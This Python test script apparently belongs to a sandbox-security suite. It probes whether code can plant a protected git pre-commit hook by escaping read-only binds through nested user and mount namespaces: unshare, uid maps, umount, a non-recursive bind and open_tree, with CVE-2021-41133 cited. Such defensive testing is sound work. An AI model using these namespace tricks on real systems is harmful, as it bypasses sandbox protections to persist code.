#!/usr/bin/env python3
import os, sys
sys.path.insert(0, os.path.join(os.path.dirname(os.path.realpath(__file__)), "..", "lib"))
from atk import *
t = Test("p07-userns-unprotect", "write a protected git hook from a nested user+mount namespace (umount, remount, non-recursive bind, open_tree)", "persist", 3, "a user namespace detaches read-only binds; CVE-2021-41133")
t.wsdir(".git/hooks"); t.wsf(".git/config", "[core]\n"); t.wsf(".git/HEAD", "ref: refs/heads/main\n")
r = t.probe("""
ws=os.getcwd(); done=[]
def attempt(tag,d):
    e=wr(d+'/.git/hooks/pre-commit',b'#!/bin/sh\\n')
    done.append('%s=%s'%(tag,e)); return e=='OK'
if attempt('plain',ws): escaped('hook written without any trick')
else:
    pid=os.fork()
    if pid==0:
        try:
            uid,gid=os.getuid(),os.getgid()
            r,e=sysc(NR['unshare'],0x10000000|0x00020000)
            if r: say('BLOCKED','plain write refused; nested namespaces: '+ename(e)); os._exit(0)
            for f,c in (('setgroups','deny'),('uid_map','0 %d 1'%uid),('gid_map','0 %d 1'%gid)):
                try: open('/proc/self/'+f,'w').write(c)
                except OSError as x: info(f+': '+exc(x))
            h=(ws+'/.git/hooks').encode()
            sysc(NR['mount'],b'none',b'/',None,0x4000|0x80000,None)                      # MS_REC|MS_SLAVE
            sysc(NR['mount'],b'none',h,None,4096|32,None);  a=attempt('remount',ws)
            for _ in range(3): sysc(NR['umount2'],h,2)
            for _ in range(3): sysc(NR['umount2'],(ws+'/.git').encode(),2)
            a=attempt('umount',ws) or a
            for base in ('/tmp','/dev/shm',os.path.dirname(sys.argv[0])):
                x=base+'/atkbind-'+ARGS[0]
                try: os.makedirs(x,exist_ok=True)
                except OSError: continue
                r,e=sysc(NR['mount'],ws.encode(),x.encode(),None,4096,None)              # MS_BIND without MS_REC
                if r==0: a=attempt('bind',x) or a
                else: info('bind: '+ename(e))
                fd,e=sysc(NR['open_tree'],-100,ws.encode(),1)                            # OPEN_TREE_CLONE, not recursive
                if fd>=0:
                    r,e=sysc(NR['move_mount'],fd,b'',-100,x.encode(),4)
                    if r==0: a=attempt('open_tree',x) or a
                else: info('open_tree: '+ename(e))
                break
            say('ESCAPED' if a else 'BLOCKED',' '.join(done))
        finally: os._exit(0)
    os.waitpid(pid,0)
""", [t.tok])
t.rm_later("/tmp/atkbind-" + t.tok, "/dev/shm/atkbind-" + t.tok)
if os.path.exists(os.path.join(t.ws, ".git/hooks/pre-commit")): t.bad("hook planted on the host: " + " ".join(r.tags("ESCAPED"))[:160])
if r.started and r.tags("ESCAPED"): t.ok("only in a private view")
t.judge(r)
